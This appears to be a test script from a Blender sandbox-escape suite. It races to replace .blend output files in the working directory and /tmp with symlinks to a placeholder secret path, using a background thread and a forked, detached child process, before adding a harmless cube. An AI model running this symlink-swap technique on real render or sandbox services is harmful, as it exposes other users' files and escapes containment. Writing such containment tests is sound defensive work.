# SPDX-License-Identifier: GPL-3.0-or-later
# title: The result becomes a link to a file of others
# route: os.symlink over *.blend
# policy: refused import
# contained: canary writes
# ends: finished raised crashed timeout
import os
import threading
import time

import bpy


def replace():
    for _ in range(2000):
        for folder in {os.getcwd(), "/tmp", os.environ.get("TMPDIR", "/tmp")}:
            for name in [*os.listdir(folder), "result.blend", "out.blend", "scene.blend"]:
                if ".blend" not in name or os.path.islink(os.path.join(folder, name)):
                    continue
                try:
                    link = os.path.join(folder, name + "-link")
                    os.symlink("@SECRET@", link)
                    os.replace(link, os.path.join(folder, name))
                except OSError:
                    pass
        time.sleep(0.001)


threading.Thread(target=replace, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    replace()
    os._exit(0)
bpy.ops.mesh.primitive_cube_add()
